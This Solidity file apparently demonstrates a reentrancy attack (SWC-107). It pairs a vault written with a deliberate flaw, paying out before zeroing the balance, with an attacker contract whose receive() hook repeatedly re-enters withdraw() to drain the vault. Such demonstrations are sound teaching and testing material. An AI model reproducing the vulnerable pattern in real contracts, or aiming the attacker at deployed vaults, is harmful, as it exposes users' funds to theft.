// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// @notice Victim: pays out before it writes down that it has.
contract LeakyVault {
    error PaymentFailed(address to);

    mapping(address owner => uint256) private _deposits;

    function deposit() external payable {
        _deposits[msg.sender] += msg.value;
    }

    function withdraw() external {
        (bool paid,) = msg.sender.call{value: _deposits[msg.sender]}("");
        if (!paid) {
            revert PaymentFailed(msg.sender);
        }
        _deposits[msg.sender] = 0;
    }

    function depositOf(address owner) external view returns (uint256) {
        return _deposits[owner];
    }
}

/// @notice Adversary: withdraws again from inside a withdrawal (SWC-107).
contract Reentrant {
    LeakyVault private immutable _vault;

    constructor(LeakyVault vault) {
        _vault = vault;
    }

    /// @dev Takes back its own deposit again for as long as the vault can pay.
    receive() external payable {
        if (address(_vault).balance >= msg.value) {
            _vault.withdraw();
        }
    }

    function attack() external payable {
        _vault.deposit{value: msg.value}();
        _vault.withdraw();
    }
}
